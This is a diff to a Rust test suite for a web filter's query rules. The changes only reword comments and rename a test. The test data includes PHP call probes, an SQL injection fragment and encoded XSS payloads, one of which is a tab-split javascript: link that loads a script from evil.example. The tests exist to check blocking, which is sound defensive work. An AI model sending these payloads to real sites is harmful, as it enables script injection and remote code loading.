@@ -1659,7 +1659,7 @@ fn snake_case_call_probe() {
         "x=php_uname%28",
         "x=call+my_func%28%29+first",
     );
-    // Searches of a programming manual end with a call as often as probes do.
+    // Searches in a programming manual often end with a call, as probes do.
     check_query_rule(
         "php-snake-case-call-probe",
         "x=get_current_user%28%29%3B",
@@ -1682,7 +1682,7 @@ fn number_comparison_value() {
     check_query_rule("sqli-literal-comparison", "a=1+xor+1", "q=xor+gate");
 }
 
-/// Searches that name a command, a statement or a system folder pass; the
+/// Searches that name a command, a statement or a system folder pass. The
 /// same words in the shape of an injection are blocked.
 #[test]
 fn command_and_statement_searches_pass() {
@@ -1872,7 +1872,7 @@ fn image_data_urls_pass() {
 }
 
 #[test]
-fn javascript_uri_split_by_tabs_is_blocked() {
+fn split_javascript_uri_is_blocked() {
     for query in [
         "q=%3Ca+href%3D%22jav%26%23x09%3Bascript%3Aimport%28%27%2F%2Fevil.example%2Fx.js%27%29%22%3Eclick%3C%2Fa%3E",
         "next=jav%09ascript%3Aalert%281%29",
